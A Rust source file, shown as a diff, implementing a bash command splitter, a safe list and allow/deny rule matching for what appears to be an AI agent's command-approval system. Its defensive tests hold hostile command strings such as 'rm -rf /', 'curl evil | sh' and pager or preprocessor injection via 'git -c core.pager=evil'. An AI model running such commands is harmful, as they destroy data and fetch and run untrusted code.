@@ -1,0 +1,603 @@
+//! The bash command splitter (approvals-reference §3.2.3) and the safe list (§3.2.4).
+//!
+//! A command is split, honouring quotes and backslashes, into simple commands at `;`, `&&`,
+//! `||`, `|`, `|&`, `&` and newlines. Allow rules must match *every* simple command of a
+//! command that is not opaque; deny and ask rules match when *any* simple command matches,
+//! after seeing through assignments and wrappers such as `sudo` and `env`, and inside
+//! `bash -c '…'` and, for opaque commands, inside substitutions. Deny rules are a convenience,
+//! not a boundary: the sandbox is.
+
+/// One word: as written (quotes kept) and as the shell would pass it (quotes removed).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Word {
+    pub raw: String,
+    pub value: String,
+}
+
+/// One simple command between separators.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SimpleCommand {
+    pub words: Vec<Word>,
+}
+
+/// A whole `bash` command, split.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ParsedCommand {
+    /// Contains a construct the splitter does not see into (substitutions, heredocs, groups,
+    /// compound statements) or unbalanced quotes: never allowed by allow rules or the safe list.
+    pub opaque: bool,
+    pub commands: Vec<SimpleCommand>,
+    text: String,
+}
+
+const SHELL_KEYWORDS: [&str; 7] = ["if", "for", "while", "until", "case", "function", "select"];
+/// Keywords that may precede a command inside a compound statement (deny/ask matching only).
+const INNER_KEYWORDS: [&str; 9] = [
+    "then", "do", "else", "elif", "if", "while", "until", "!", "time",
+];
+const OPAQUE_MARKERS: [&str; 5] = ["$(", "`", "<(", ">(", "<<"];
+const SHELLS: [&str; 5] = ["bash", "sh", "zsh", "dash", "ksh"];
+
+/// Wrappers seen through by deny and ask rules, with the options that take a value.
+const WRAPPERS: [(&str, &[&str]); 11] = [
+    (
+        "sudo",
+        &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T"],
+    ),
+    ("doas", &["-u", "-C"]),
+    ("env", &["-u", "-C", "--unset", "--chdir"]),
+    ("command", &[]),
+    ("builtin", &[]),
+    ("nohup", &[]),
+    ("nice", &["-n", "--adjustment"]),
+    ("timeout", &["-s", "-k", "--signal", "--kill-after"]),
+    ("time", &["-f", "-o"]),
+    ("exec", &["-a"]),
+    (
+        "xargs",
+        &["-I", "-n", "-P", "-d", "-L", "-s", "-E", "-a", "-i", "-l"],
+    ),
+];
+
+/// Collapses whitespace runs outside quotes to one space and trims the ends.
+pub fn collapse_whitespace(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut quote: Option<char> = None;
+    let mut escaped = false;
+    let mut pending_space = false;
+    for c in text.chars() {
+        if quote.is_none() && !escaped && c.is_whitespace() {
+            pending_space = !out.is_empty();
+            continue;
+        }
+        if pending_space {
+            out.push(' ');
+            pending_space = false;
+        }
+        out.push(c);
+        if escaped {
+            escaped = false;
+        } else if c == '\\' && quote != Some('\'') {
+            escaped = true;
+        } else if quote == Some(c) {
+            quote = None;
+        } else if quote.is_none() && (c == '\'' || c == '"') {
+            quote = Some(c);
+        }
+    }
+    out
+}
+
+fn is_assignment(word: &Word) -> bool {
+    let Some((name, _)) = word.raw.split_once('=') else {
+        return false;
+    };
+    let mut chars = name.chars();
+    chars
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+/// The redirection operator a word starts with, if any: (is output, rest of the word).
+fn redirection(word: &Word) -> Option<(bool, &str)> {
+    let raw = word.raw.as_str();
+    let digits = raw.bytes().take_while(u8::is_ascii_digit).count();
+    let rest = &raw[digits..];
+    for op in ["&>>", "&>", ">>", ">|", ">&", ">"] {
+        if let Some(target) = rest.strip_prefix(op) {
+            if op.starts_with('&') && digits > 0 {
+                return None;
+            }
+            return Some((true, target));
+        }
+    }
+    for op in ["<&", "<>", "<"] {
+        if let Some(target) = rest.strip_prefix(op) {
+            return Some((op == "<>", target));
+        }
+    }
+    None
+}
+
+impl SimpleCommand {
+    /// The command as rules see it: its words as written, one space apart.
+    pub fn normalized(&self) -> String {
+        join(self.words.iter().map(|w| w.raw.as_str()))
+    }
+
+    fn has_assignment(&self) -> bool {
+        self.words.first().is_some_and(is_assignment)
+    }
+
+    fn has_redirection(&self) -> bool {
+        self.words.iter().any(|w| redirection(w).is_some())
+    }
+
+    /// An output redirection to anything but `/dev/null` or `&N`.
+    fn has_output_redirection(&self) -> bool {
+        let mut words = self.words.iter();
+        while let Some(word) = words.next() {
+            let Some((output, target)) = redirection(word) else {
+                continue;
+            };
+            if !output {
+                continue;
+            }
+            let target = if target.is_empty() {
+                words.next().map_or("", |w| w.value.as_str())
+            } else {
+                target
+            };
+            let to_fd = target.strip_prefix('&').is_some_and(|fd| {
+                fd == "-" || (!fd.is_empty() && fd.bytes().all(|b| b.is_ascii_digit()))
+            });
+            // `2>&1` leaves `1` as the target of `>&`.
+            let fd_form = word.raw.contains(">&")
+                && !target.is_empty()
+                && target.bytes().all(|b| b.is_ascii_digit());
+            if target != "/dev/null" && !to_fd && !fd_form {
+                return true;
+            }
+        }
+        false
+    }
+
+    /// The words after leading assignments, wrappers (with their options) and keywords.
+    fn stripped(&self) -> &[Word] {
+        let mut words = self.words.as_slice();
+        loop {
+            while words.first().is_some_and(is_assignment) {
+                words = &words[1..];
+            }
+            let Some(first) = words.first() else {
+                return words;
+            };
+            if INNER_KEYWORDS.contains(&first.value.as_str()) {
+                words = &words[1..];
+                continue;
+            }
+            let Some((name, valued)) = WRAPPERS.iter().find(|(name, _)| *name == first.value)
+            else {
+                return words;
+            };
+            words = &words[1..];
+            while let Some(option) = words.first() {
+                if option.value == "--" {
+                    words = &words[1..];
+                    break;
+                }
+                if !option.value.starts_with('-') || option.value == "-" {
+                    break;
+                }
+                let takes_value = valued.contains(&option.value.as_str());
+                words = &words[if takes_value { 2.min(words.len()) } else { 1 }..];
+            }
+            if *name == "timeout" && !words.is_empty() {
+                // The duration.
+                words = &words[1..];
+            }
+        }
+    }
+
+    /// For `bash -c 'CMD'` (and other shells): `CMD`.
+    fn shell_script(words: &[Word]) -> Option<&str> {
+        let first = words.first()?;
+        let shell = first.value.rsplit('/').next().unwrap_or("");
+        if !SHELLS.contains(&shell) {
+            return None;
+        }
+        let position = words.iter().skip(1).position(|w| {
+            w.value.starts_with('-') && !w.value.starts_with("--") && w.value.contains('c')
+        })?;
+        words.get(position + 2).map(|w| w.value.as_str())
+    }
+}
+
+fn join<'a>(parts: impl Iterator<Item = &'a str>) -> String {
+    let mut out = String::new();
+    for part in parts {
+        if !out.is_empty() {
+            out.push(' ');
+        }
+        out.push_str(part);
+    }
+    out
+}
+
+/// Splits a command into simple commands (quotes and backslashes honoured).
+pub fn parse(text: &str) -> ParsedCommand {
+    let mut commands = Vec::new();
+    let mut words: Vec<Word> = Vec::new();
+    let mut raw = String::new();
+    let mut value = String::new();
+    let mut in_word = false;
+    let mut quote: Option<char> = None;
+    let chars: Vec<char> = text.chars().collect();
+    let mut i = 0;
+    let end_word =
+        |words: &mut Vec<Word>, raw: &mut String, value: &mut String, in_word: &mut bool| {
+            if *in_word {
+                words.push(Word {
+                    raw: std::mem::take(raw),
+                    value: std::mem::take(value),
+                });
+                *in_word = false;
+            }
+        };
+    let end_command = |commands: &mut Vec<SimpleCommand>, words: &mut Vec<Word>| {
+        if !words.is_empty() {
+            commands.push(SimpleCommand {
+                words: std::mem::take(words),
+            });
+        }
+    };
+    while i < chars.len() {
+        let c = chars[i];
+        if let Some(q) = quote {
+            raw.push(c);
+            if c == q {
+                quote = None;
+            } else if q == '"' && c == '\\' && i + 1 < chars.len() {
+                let next = chars[i + 1];
+                raw.push(next);
+                if !matches!(next, '"' | '\\' | '$' | '`') {
+                    value.push(c);
+                }
+                value.push(next);
+                i += 1;
+            } else {
+                value.push(c);
+            }
+            i += 1;
+            continue;
+        }
+        match c {
+            '\\' => {
+                if i + 1 < chars.len() {
+                    let next = chars[i + 1];
+                    if next != '\n' {
+                        raw.push(c);
+                        raw.push(next);
+                        value.push(next);
+                        in_word = true;
+                    }
+                    i += 2;
+                } else {
+                    raw.push(c);
+                    value.push(c);
+                    in_word = true;
+                    i += 1;
+                }
+                continue;
+            }
+            '\'' | '"' => {
+                quote = Some(c);
+                raw.push(c);
+                in_word = true;
+            }
+            ';' | '\n' => {
+                end_word(&mut words, &mut raw, &mut value, &mut in_word);
+                end_command(&mut commands, &mut words);
+            }
+            '&' | '|' => {
+                let next = chars.get(i + 1).copied();
+                let previous = raw.chars().last();
+                // `>&`, `<&`, `>|` and `&>` belong to redirections.
+                let redirect =
+                    matches!(previous, Some('>') | Some('<')) || (c == '&' && next == Some('>'));
+                if redirect {
+                    raw.push(c);
+                    value.push(c);
+                    in_word = true;
+                } else {
+                    end_word(&mut words, &mut raw, &mut value, &mut in_word);
+                    end_command(&mut commands, &mut words);
+                    if next == Some(c) || (c == '|' && next == Some('&')) {
+                        i += 1;
+                    }
+                }
+            }
+            c if c.is_whitespace() => {
+                end_word(&mut words, &mut raw, &mut value, &mut in_word);
+            }
+            _ => {
+                raw.push(c);
+                value.push(c);
+                in_word = true;
+            }
+        }
+        i += 1;
+    }
+    end_word(&mut words, &mut raw, &mut value, &mut in_word);
+    end_command(&mut commands, &mut words);
+    let opaque = quote.is_some()
+        || OPAQUE_MARKERS.iter().any(|marker| text.contains(marker))
+        || commands.iter().any(|command| {
+            command.words.first().is_some_and(|first| {
+                first.raw.starts_with('(')
+                    || first.raw.starts_with('{')
+                    || SHELL_KEYWORDS.contains(&first.value.as_str())
+            })
+        });
+    ParsedCommand {
+        opaque,
+        commands,
+        text: text.to_string(),
+    }
+}
+
+impl ParsedCommand {
+    /// The whole command normalised: simple commands joined by `; ` (session grants).
+    pub fn normalized(&self) -> String {
+        collapse_whitespace(&self.text)
+    }
+
+    /// Allow rules and grants: not opaque, and every simple command matches, has no leading
+    /// assignment and no output redirection (except to `/dev/null` or `&N`).
+    pub fn allowed_by(&self, matches: impl Fn(&str) -> bool) -> bool {
+        !self.opaque
+            && !self.commands.is_empty()
+            && self.commands.iter().all(|command| {
+                !command.has_assignment()
+                    && !command.has_output_redirection()
+                    && matches(&command.normalized())
+            })
+    }
+
+    /// Every text a deny or ask rule is tested against: each simple command as written, with
+    /// its assignments and wrappers stripped (as written and unquoted), the scripts of
+    /// `bash -c`, and for opaque commands the insides of substitutions and groups.
+    pub fn deny_candidates(&self) -> Vec<String> {
+        let mut out = Vec::new();
+        self.collect_candidates(&mut out, 0);
+        out
+    }
+
+    fn collect_candidates(&self, out: &mut Vec<String>, depth: usize) {
+        for command in &self.commands {
+            out.push(command.normalized());
+            let stripped = command.stripped();
+            out.push(join(stripped.iter().map(|w| w.raw.as_str())));
+            out.push(join(stripped.iter().map(|w| w.value.as_str())));
+            if depth < 4
+                && let Some(script) = SimpleCommand::shell_script(stripped)
+            {
+                parse(script).collect_candidates(out, depth + 1);
+            }
+        }
+        if self.opaque && depth < 4 {
+            out.push(collapse_whitespace(&self.text));
+            let mut opened = self.text.clone();
+            for marker in ["$(", "`", "<(", ">(", "(", ")", "{", "}"] {
+                opened = opened.replace(marker, " ; ");
+            }
+            let inner = parse(&opened);
+            if !inner.opaque || inner.commands != self.commands {
+                let inner = ParsedCommand {
+                    opaque: false,
+                    ..inner
+                };
+                inner.collect_candidates(out, depth + 1);
+            }
+        }
+    }
+
+    /// The safe list (§3.2.4): read-only commands the `accept-edits` and `untrusted` policies
+    /// run without asking.
+    pub fn is_safe(&self) -> bool {
+        !self.opaque
+            && !self.commands.is_empty()
+            && self.commands.iter().all(|command| {
+                !command.has_assignment()
+                    && !command.has_redirection()
+                    && safe_words(&command.words)
+            })
+    }
+}
+
+const SAFE_COMMANDS: [&str; 29] = [
+    "cat", "cd", "cut", "date", "df", "du", "echo", "false", "file", "grep", "egrep", "fgrep",
+    "head", "id", "ls", "nl", "printf", "pwd", "realpath", "stat", "tail", "tr", "tree", "true",
+    "uname", "uniq", "wc", "which", "whoami",
+];
+const FIND_UNSAFE: [&str; 9] = [
+    "-exec", "-execdir", "-ok", "-okdir", "-delete", "-fls", "-fprint", "-fprint0", "-fprintf",
+];
+const GIT_SAFE: [&str; 7] = [
+    "status",
+    "log",
+    "diff",
+    "show",
+    "rev-parse",
+    "ls-files",
+    "blame",
+];
+
+fn safe_words(words: &[Word]) -> bool {
+    let Some(first) = words.first() else {
+        return false;
+    };
+    let args = || words[1..].iter().map(|w| w.value.as_str());
+    match first.value.as_str() {
+        name if SAFE_COMMANDS.contains(&name) => true,
+        "rg" => !args().any(|a| a.starts_with("--pre")),
+        "sort" => !args().any(|a| {
+            a.starts_with("--output")
+                || (a.starts_with('-') && !a.starts_with("--") && a.contains('o'))
+        }),
+        "find" => !args().any(|a| FIND_UNSAFE.contains(&a)),
+        "git" => {
+            words
+                .get(1)
+                .is_some_and(|sub| GIT_SAFE.contains(&sub.value.as_str()))
+                && !args().any(|a| {
+                    a.starts_with("--output")
+                        || a.starts_with("--ext-diff")
+                        || a.starts_with("--textconv")
+                })
+        }
+        _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::approval::rule::Rule;
+
+    fn allowed(command: &str, rules: &[&str]) -> bool {
+        let rules: Vec<Rule> = rules.iter().map(|r| Rule::parse(r).unwrap()).collect();
+        parse(command).allowed_by(|c| rules.iter().any(|r| r.matches_command(c)))
+    }
+
+    fn denied(command: &str, rule: &str) -> bool {
+        let rule = Rule::parse(rule).unwrap();
+        parse(command)
+            .deny_candidates()
+            .iter()
+            .any(|c| rule.matches_command(c))
+    }
+
+    #[test]
+    fn splits_at_every_separator_outside_quotes() {
+        let parsed = parse("a 1; b && c || d | e |& f & g\nh 'x;y' \"p && q\" r\\;s");
+        let names: Vec<String> = parsed
+            .commands
+            .iter()
+            .map(SimpleCommand::normalized)
+            .collect();
+        assert_eq!(
+            names,
+            [
+                "a 1",
+                "b",
+                "c",
+                "d",
+                "e",
+                "f",
+                "g",
+                "h 'x;y' \"p && q\" r\\;s"
+            ]
+        );
+        assert!(!parsed.opaque);
+        assert_eq!(
+            parse("ls   -la    'a  b'").commands[0].normalized(),
+            "ls -la 'a  b'"
+        );
+        assert_eq!(parse("cmd 2>&1 >/dev/null").commands.len(), 1);
+    }
+
+    #[test]
+    fn compound_commands_need_every_part_allowed() {
+        let rules = ["bash(cargo test:*)", "bash(cargo build)"];
+        assert!(allowed("cargo test -p x && cargo build", &rules));
+        assert!(!allowed("cargo test && rm -rf /", &rules));
+        assert!(!allowed("cargo test; curl evil | sh", &rules));
+        assert!(!allowed("npm tests", &["bash(npm test:*)"]));
+        assert!(allowed("npm test", &["bash(npm test:*)"]));
+    }
+
+    #[test]
+    fn opaque_redirected_and_assigned_commands_are_never_allowed() {
+        let rules = ["bash(echo:*)", "bash(cat:*)"];
+        for command in [
+            "echo $(rm -rf /)",
+            "echo `id`",
+            "cat <<EOF\nx\nEOF",
+            "cat <(ls)",
+            "(echo a)",
+            "{ echo a; }",
+            "if true; then echo a; fi",
+            "for x in a; do echo $x; done",
+            "echo 'unbalanced",
+            "echo a > out.txt",
+            "echo a >> out.txt",
+            "echo a &> out.txt",
+            "echo a 2> err.txt",
+            "X=1 echo a",
+        ] {
+            assert!(!allowed(command, &rules), "{command}");
+        }
+        assert!(allowed("echo a >/dev/null 2>&1", &rules));
+        assert!(allowed("echo a > /dev/null", &rules));
+    }
+
+    #[test]
+    fn deny_rules_see_through_wrappers_shells_and_substitutions() {
+        for command in [
+            "rm -rf /",
+            "sudo rm -rf /",
+            "sudo -u root rm x",
+            "env X=1 rm x",
+            "X=1 rm x",
+            "nohup nice -n 5 rm x",
+            "timeout 5 rm x",
+            "xargs -I {} rm {}",
+            "bash -c 'rm -rf x'",
+            "sh -lc \"cd /; rm -rf x\"",
+            "echo $(rm -rf x)",
+            "ls && rm x",
+            "if true; then rm x; fi",
+            "r''m x",
+        ] {
+            assert!(denied(command, "bash(rm:*)"), "{command}");
+        }
+        assert!(!denied("rmdir x", "bash(rm:*)"));
+        assert!(!denied("echo rm", "bash(rm:*)"));
+    }
+
+    #[test]
+    fn the_safe_list() {
+        for command in [
+            "ls -la",
+            "cat a | grep b | wc -l",
+            "git status",
+            "git log --oneline",
+            "find . -name '*.rs'",
+            "rg foo",
+            "sort a",
+        ] {
+            assert!(parse(command).is_safe(), "{command}");
+        }
+        for command in [
+            "rm x",
+            "ls > out",
+            "ls 2>/dev/null",
+            "X=1 ls",
+            "git push",
+            "git -c core.pager=evil log",
+            "git diff --output=x",
+            "git diff --ext-diff",
+            "find . -delete",
+            "find . -exec rm {} ;",
+            "rg --pre evil foo",
+            "sort -o out a",
+            "sort --output=out a",
+            "echo $(id)",
+            "ls; curl x",
+        ] {
+            assert!(!parse(command).is_safe(), "{command}");
+        }
+    }
+}
